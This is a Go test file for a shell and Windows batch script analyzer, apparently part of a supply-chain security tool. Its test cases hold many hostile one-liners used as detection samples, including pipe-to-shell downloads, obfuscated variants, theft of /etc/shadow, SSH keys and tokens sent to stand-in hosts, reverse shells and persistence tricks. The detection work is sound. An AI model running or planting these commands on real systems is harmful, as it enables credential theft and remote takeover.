package shell_test

import (
	"strconv"
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code/codetest"
	"github.com/gatehouse-project/gatehouse/internal/code/shell"
)

var scripts = []struct {
	why  string
	src  string
	want []string
}{
	{"a download that a shell runs", "curl -s http://x.invalid/a | sh",
		[]string{"fetch curl [http://x.invalid/a]", "exec curl [curl|-s|http://x.invalid/a]", "eval sh <fetch", "exec sh [sh]"}},
	{"through sudo and flags", "wget -qO- http://x.invalid/a | sudo -E bash -s -- x", []string{"eval bash <fetch", "fetch wget [http://x.invalid/a]"}},
	{"quotes and backslashes in the name", `c"u"r\l -s http://x.invalid/a|b'a'sh`, []string{"fetch curl [http://x.invalid/a] !", "eval bash <fetch !"}},
	{"no blanks", "cat${IFS}/etc/shadow|curl${IFS}-d${IFS}@-${IFS}http://x.invalid", []string{"secret read [/etc/shadow]", "send curl [http://x.invalid] <read-file,secret !"}},
	{"a constant in a variable", "u=http://x.invalid/a; c=curl; $c $u | $SHELL2 sh; curl $u | sh", []string{"fetch curl [http://x.invalid/a]", "eval sh <fetch"}},
	{"decoded and run", "echo dHJ1ZQ== | base64 -d | sh", []string{"eval sh [true] <decode !", "embed shell: true"}},
	{"decoded in a substitution", `eval "$(echo dHJ1ZQ== | base64 --decode)"`, []string{"eval eval [true] <decode !", "embed shell: true"}},
	{"letters by number", `$'\x63url' http://x.invalid/a | sh`, []string{"fetch curl [http://x.invalid/a] !", "eval sh <fetch"}},
	{"backquotes", "sh -c \"`curl -s http://x.invalid/a`\"", []string{"eval sh <fetch"}},
	{"process substitution", "bash <(curl -s http://x.invalid/a)", []string{"eval bash <fetch"}},
	{"written, then run", "curl -o /tmp/a.sh http://x.invalid/a; chmod +x /tmp/a.sh; /tmp/a.sh",
		[]string{"write-file curl [/tmp/a.sh] <fetch", "write-exec chmod [/tmp/a.sh] <file:fetch", "eval a.sh [/tmp/a.sh] <file:fetch", "exec a.sh [/tmp/a.sh] <file:fetch"}},
	{"written by redirection, run by its name", "curl http://x.invalid/a > x && sh ./x", []string{"eval sh [./x] <file:fetch"}},
	{"python on the line", `python3 -c "import os; os.system('true')"`, []string{"embed python: import os; os.system('true')"}},
	{"node on the line", `node -e 'require("fs")'`, []string{`embed javascript: require("fs")`}},
	{"an encoded command", "powershell -NoP -w hidden -enc dAByAHUAZQA=", []string{"embed powershell: true", "silence powershell [-WindowStyle Hidden]", "eval powershell [true] <decode !"}},
	{"the environment goes out", "env | curl -X POST --data-binary @- https://x.invalid/c", []string{"send curl [https://x.invalid/c] <env-all", "env-all env"}},
	{"a secret file goes out", "curl -F 'f=@/home/u/.npmrc' https://x.invalid/c", []string{"secret read [/home/u/.npmrc]", "send curl [https://x.invalid/c] <read-file,secret"}},
	{"a token in the address", `curl "https://x.invalid/?t=$NPM_TOKEN"`, []string{"env env [NPM_TOKEN]", "send curl [https://x.invalid/?t=$NPM_TOKEN] <env"}},
	{"a reverse shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", []string{"socket /dev/tcp [/dev/tcp/192.0.2.1/4444]", "exec bash [bash|-i]"}},
	{"netcat with a shell", "nc -e /bin/sh 192.0.2.1 4444", []string{"eval nc [-e|/bin/sh|192.0.2.1|4444] <socket"}},
	{"a cron line", `(crontab -l; echo "* * * * * true") | crontab -`, []string{"persist crontab [crontab|-]"}},
	{"a profile", "echo true >> ~/.bashrc", []string{"persist redirect [~/.bashrc]"}},
	{"publishing", "npm version patch && npm publish --access public", []string{"publish npm [publish|--access|public]"}},
	{"packages", "pip install inert-pkg; npm i -g other; npm install", []string{"add-package pip [inert-pkg]", "add-package npm [other]", "no add-package npm [install"}},
	{"hidden in the background", "nohup ./x >/dev/null 2>&1 &", []string{"silence background", "silence nohup [./x]", "silence /dev/null [nohup|./x]"}},
	{"only an answer is wanted", "command -v node >/dev/null 2>&1 || exit 1", []string{"no silence", "no exec"}},
	{"a here-document for an interpreter", "python3 - <<'EOF'\nimport os\nEOF\necho x", []string{"embed python: import os\n"}},
	{"functions that run and that do not", "f() {\n rm -rf /x\n}\ng() {\n rm -rf /y\n}\nf\n", []string{"delete rm [-rf|/x] @f", "delete rm [-rf|/y] @g ~call"}},
	{"comments are no code", "# curl http://x.invalid | sh\necho 'curl http://x.invalid | sh'", []string{"no fetch", "no eval", "no exec"}},
	{"a quote in a comment does not hide", "# don't\ncurl http://x.invalid/a | sh\n", []string{"eval sh <fetch"}},
	{"case patterns are no commands", "case $x in\n linux*) curl http://x.invalid/a | sh;;\n *) true;;\nesac\n", []string{"eval sh <fetch", "no exec linux"}},
	{"if, for and while", "if [ -f x ]; then for i in a b; do curl http://x.invalid/$i; done; fi", []string{"fetch curl [http://x.invalid/a]"}},
	{"letters cut out of a variable", "a=xcurlx; ${a:1:4} http://x.invalid/a", []string{"fetch curl [http://x.invalid/a] !"}},
	{"an encoder is no decoder", "cat ~/.ssh/id_rsa | base64 | curl -d @- http://x.invalid", []string{"send curl [http://x.invalid] <read-file,secret", "no decode"}},
	{"insecure", "curl -k https://x.invalid/a", []string{"silence curl [--insecure]"}},
	{"rot13", "echo gehr | tr a-z n-za-m | sh", []string{"embed shell: true"}},
	{"cloud metadata", "curl http://169.254.169.254/latest/meta-data/", []string{"secret curl [http://169.254.169.254/latest/meta-data/]"}},
	{"a tee to a workflow", "echo x | tee .github/workflows/a.yml", []string{"manifest tee [.github/workflows/a.yml]"}},
	{"ordinary npm scripts", "tsc -p . && node scripts/build.js && rimraf dist", []string{"exec tsc [tsc|-p|.]", "exec node [node|scripts/build.js]", "no eval", "no fetch"}},
	{"nested backquotes in quotes", "sh -c \"$(echo \"$(echo true)\")\"", []string{"embed shell: true"}},
}

func TestAnalyze(t *testing.T) {
	t.Parallel()
	for _, c := range scripts {
		got := codetest.Show(shell.Analyze([]byte(c.src)))
		for _, w := range codetest.Lacks(got, c.want) {
			t.Errorf("%s: %q\nlacks %s\ngot\n%s", c.why, c.src, w, strings.Join(got, "\n"))
		}
	}
}

var batches = []struct {
	why  string
	src  string
	want []string
}{
	{"a download that is started", "@echo off\r\ncertutil -urlcache -split -f http://x.invalid/a.exe %TEMP%\\a.exe\r\n%TEMP%\\a.exe\r\n",
		[]string{"fetch certutil [http://x.invalid/a.exe]", "eval a [%TEMP%\\a.exe] <file:fetch"}},
	{"carets", "c^u^r^l http://x.invalid/a.bat -o a.bat & call a.bat", []string{"fetch curl [http://x.invalid/a.bat] !", "eval a.bat [a.bat] <file:fetch"}},
	{"variables put a name together", "set a=po&set b=wershell\n%a%%b% -enc dAByAHUAZQA=", []string{"embed powershell: true"}},
	{"a Run key", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d true`, []string{`persist reg [add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d true]`}},
	{"comments", "rem curl http://x.invalid\r\n:: curl http://x.invalid\r\n", []string{"no fetch"}},
	{"hidden in a start", `start /b "" powershell -w hidden -c "true"`, []string{"embed powershell: true"}},
}

func TestAnalyzeBatch(t *testing.T) {
	t.Parallel()
	for _, c := range batches {
		got := codetest.Show(shell.AnalyzeBatch([]byte(c.src)))
		for _, w := range codetest.Lacks(got, c.want) {
			t.Errorf("%s: %q\nlacks %s\ngot\n%s", c.why, c.src, w, strings.Join(got, "\n"))
		}
	}
}

// TestHostileScripts would not end in time if work were not linear, or overflow the
// stack if depth were not bounded.
func TestHostileScripts(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"$(", "`", "(", "{ ", "((", "a=$a$a;", "\"$(", "<<A ", "${a:-", "<(", "'", "case ", "x|", "f(){", "$((", "%a%", "^"} {
		src := []byte(strings.Repeat(unit, 1<<18/len(unit)))
		shell.Analyze(src)
		shell.AnalyzeBatch(src)
	}
	shell.Analyze([]byte("a=x\n" + strings.Repeat("a=$a$a$a$a\n", 10000) + "eval $a"))
}

func numbers(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = strconv.Itoa(i)
	}
	return out
}

// TestLimitsAreSaid: what stands behind a limit was not read, and the facts say so.
func TestLimitsAreSaid(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ why, src string }{
		{"more commands than are read", strings.Repeat("true\n", 1<<16+1)},
		{"more facts than are held", "a" + strings.Join(numbers(40_000), "\na") + "\ncurl http://x.invalid/a | sh\n"},
		{"text that doubles", "x=a\n" + strings.Repeat("x=$x$x\n", 1000)},
	} {
		if got := shell.Analyze([]byte(c.src)); !got.Cut {
			t.Errorf("%s: not said: %q", c.why, got.Unread)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, c := range scripts {
		f.Add([]byte(c.src))
	}
	for _, c := range batches {
		f.Add([]byte(c.src))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		shell.Analyze(src)
		shell.AnalyzeBatch(src)
	})
}

func BenchmarkAnalyze(b *testing.B) {
	src := []byte(strings.Repeat("#!/bin/sh\nset -e\nif [ -f \"$dir/x\" ]; then\n  for f in a b c; do\n    install -m 644 \"$f\" \"$dir/$f\"\n  done\nfi\nmake -C build all\n", 4000))
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		shell.Analyze(src)
	}
}

func TestGitHooksPath(t *testing.T) {
	for line, sets := range map[string]bool{
		"git config --local core.hooksPath":        false,
		"git config --get core.hookspath":          false,
		"git config core.hooksPath .hooks":         true,
		"git -c core.hooksPath=/tmp/x commit -m x": true,
	} {
		got := false
		for _, f := range shell.Analyze([]byte(line)).Facts {
			got = got || f.Kind == "persist"
		}
		if got != sets {
			t.Errorf("%s: arranges to be started again: %v, want %v", line, got, sets)
		}
	}
}
